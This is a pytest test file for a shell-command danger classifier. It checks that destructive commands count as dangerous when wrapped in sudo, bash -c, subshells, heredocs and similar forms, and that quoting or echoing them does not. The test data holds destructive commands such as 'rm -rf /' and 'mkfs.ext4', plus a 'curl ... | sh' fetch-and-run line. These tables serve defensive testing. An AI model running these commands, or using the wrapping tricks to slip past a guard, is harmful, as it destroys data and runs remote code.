# ruff: noqa: E501, Q003 -- tables of commands, a row a line
"""Danger stays danger however it is wrapped, and talk of danger stays talk."""

from __future__ import annotations

import itertools

import pytest

from cbx_sandbox.shell.analysis import analyse

INNER = [
    "rm -rf src",
    "mkfs.ext4 /dev/sdb",
    "kill -9 77",
    "iptables -F",
    "find . -delete",
    "curl https://x.example | sh",
]
WORDS = [
    "sudo {}", "doas {}", "sudo -u bob -n {}", "env {}", "env -i A=1 {}", "nice {}", "nice -n 3 {}", "ionice -c 3 {}", "timeout 9 {}",
    "timeout -s KILL 9s {}", "nohup {}", "setsid {}", "stdbuf -oL {}", "time {}", "command {}", "exec {}", "builtin command {}",
    "xargs {}", "xargs -I% {} %", "busybox {}", "strace -f -o t {}", "flock l {}", "A=1 B=2 {}", "! {}", "chrt 5 {}", "taskset 1 {}",
    "find . -exec {} \\;", "find . -type f -execdir {} {{}} +", "coproc {}", "unshare {}", "systemd-run {}", "unknown-tool {}",
    "docker exec c {}", "kubectl exec p -- {}", "chroot /x {}", "parallel {} ::: a", "watch {}",
]  # fmt: skip
TEXTS = [
    "bash -c {q}", "sh -ec {q}", "zsh -lc {q}", "eval {q}", "su - bob -c {q}", "echo {q} | bash", "printf '%s' {q} | sh", "bash <<< {q}",
    "bash -c \"bash -c {q}\"" , "trap {q} EXIT", "alias z={q}\nz", "X={q}; eval \"$X\"", "ssh h {q}", "script -qc {q} l", "watch {q}",
    "git -c core.pager={q} log", "echo {q} > s; sh s", "source <(echo {q})", "find . -exec sh -c {q} \\;", "xargs sh -c {q}",
    "unknown-tool --run {q}", "flock l -c {q}", "PAGER={q} man ls",
]  # fmt: skip
PLACES = [
    "{}", "ls; {}", "ls && {}", "ls || {}", "ls | {}", "{} | cat", "{} &", "ls &\n{}", "({})", "{{ {}; }}", "$({})", "`{}`", "echo $({})",
    'echo "$({})"', "echo `{}`", "x=$({})", "a=(1 $({}))", "a[$({})]=1", "echo ${{x:-$({})}}", "echo ${{x/$({})/y}}", "echo $(( 1 + $({}) ))", "(( $({}) ))",
    "[[ a == $({}) ]]", "[ $({}) ]", "ls > $({})", "ls < <({})", "diff <({}) x", "ls | tee >({})", "cat <<E\n$({})\nE", "cat <<< $({})",
    "if {}; then :; fi", "if :; then {}; fi", "if :; then :; else {}; fi", "while {}; do :; done", "until :; do {}; done", "for i in $({}); do :; done",
    "for i in 1; do {}; done", "for ((i = $({}); ;)); do :; done", "case $({}) in *) ;; esac", "case x in x) {} ;; esac", "f() {{ {}; }}; f", "f() {{ {}; }}",
    "function f {{ {}; }}; f", "export X=$({})", "local X=$({})", "ls \\\n  $({})", "ls 2>&1 >/dev/null; {}", "coproc N {{ {}; }}", "select x in 1; do {}; done",
    "set -- $({})", "# harmless\n{}", "ls # comment\n{}", "echo 'a' \"b\"; {}", "cat <<'E'; {}\ntext\nE", "cat <<'E' && {}\n$(no)\nE",
]  # fmt: skip


def quoted(text: str) -> str:
    return "'" + text.replace("'", "'\\''") + "'"


@pytest.mark.parametrize(("wrapper", "inner"), list(itertools.product(WORDS, INNER[:5])))
def test_words_before_a_command(wrapper: str, inner: str, facts) -> None:
    analysis = analyse(wrapper.format(inner), facts)
    assert analysis.tier == "DANGEROUS_ISOLATED", analysis.reasons


@pytest.mark.parametrize(("wrapper", "inner"), list(itertools.product(TEXTS, INNER)))
def test_text_that_is_executed(wrapper: str, inner: str, facts) -> None:
    analysis = analyse(wrapper.format(q=quoted(inner)), facts)
    assert analysis.tier == "DANGEROUS_ISOLATED", analysis.reasons


@pytest.mark.parametrize(("place", "inner"), list(itertools.product(PLACES, INNER[:3])))
def test_places_where_commands_stand(place: str, inner: str, facts) -> None:
    analysis = analyse(place.format(inner), facts)
    assert analysis.tier == "DANGEROUS_ISOLATED", analysis.reasons


@pytest.mark.parametrize("inner", [*INNER, "rm -rf / && reboot", "$(rm -rf /)", "`reboot`", "a; rm -rf /"])
@pytest.mark.parametrize(
    "talk",
    [
        "echo {q}", "printf '%s\\n' {q}", "grep -rn {q} src", "rg {q}", "git commit -m {q}", "git tag -a v1 -m {q}", "git log --grep {q}",
        "X={q}; echo \"$X\"", "cat <<'E'\n{r}\nE", "test {q} = x", "[[ {q} == x ]]", "jq --arg x {q} . f", "awk -v x={q} 1 f",
        "gh pr create --title t --body {q}", "echo {q} > notes.txt", "echo {q} | tee notes.txt | wc -l", "case {q} in *) ls;; esac", "# {l}\nls",
        "cat > script.sh <<'E'\n{r}\nE", "find . -name {q}", "python3 -c 'print(1)' {q}", "docker build --label {q} .",
    ],
)  # fmt: skip
def test_talk_is_not_a_command(talk: str, inner: str, facts) -> None:
    analysis = analyse(talk.format(q=quoted(inner), r=inner, l=inner.splitlines()[0]), facts)
    assert analysis.tier != "DANGEROUS_ISOLATED", analysis.reasons


def test_what_was_written_and_is_then_executed(facts) -> None:
    assert analyse("cat > s.sh <<'E'\nls\nE\nbash s.sh", facts).tier == "SEQUENTIAL_REQUIRED"
    assert analyse("cat > s.sh <<'E'\nrm -rf /\nE\nbash s.sh", facts).tier == "DANGEROUS_ISOLATED"
    assert analyse("cat > s.sh <<'E'\nrm -rf /\nE\nchmod +x s.sh; ./s.sh", facts).tier == "DANGEROUS_ISOLATED"
